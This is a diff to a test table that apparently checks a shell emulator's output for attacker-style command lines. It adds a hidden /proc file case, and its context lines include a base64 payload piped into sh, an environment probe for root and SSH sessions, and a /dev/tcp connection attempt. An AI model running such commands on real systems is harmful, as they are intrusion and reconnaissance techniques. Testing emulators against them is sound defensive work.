@@ -36,6 +36,12 @@ it.each([
     stdout: '1\n',
     stderr: 'bash: connect: No route to host\nbash: line 1: /dev/tcp/203.0.113.4/80: No route to host\n',
   },
+  {
+    line: 'echo x > /proc/.nippon; cat /proc/.nippon; rm -f /proc/.nippon',
+    stdout: '',
+    stderr:
+      'bash: line 1: /proc/.nippon: No such file or directory\ncat: /proc/.nippon: No such file or directory\n',
+  },
   { line: 'env | grep -c "^USER=root\\|^SHELL=/bin/bash\\|^SSH_CLIENT="', stdout: '3\n', stderr: '' },
   { line: 'echo aWQgLXUK | base64 -d | sh -x; echo "echo $1 me" | bash -s x', stdout: '0\nme\n', stderr: '+ id -u\n' },
   { line: `python3 -c 'import os; print(2**10, os.getuid())'`, stdout: '1024 0\n', stderr: '' },
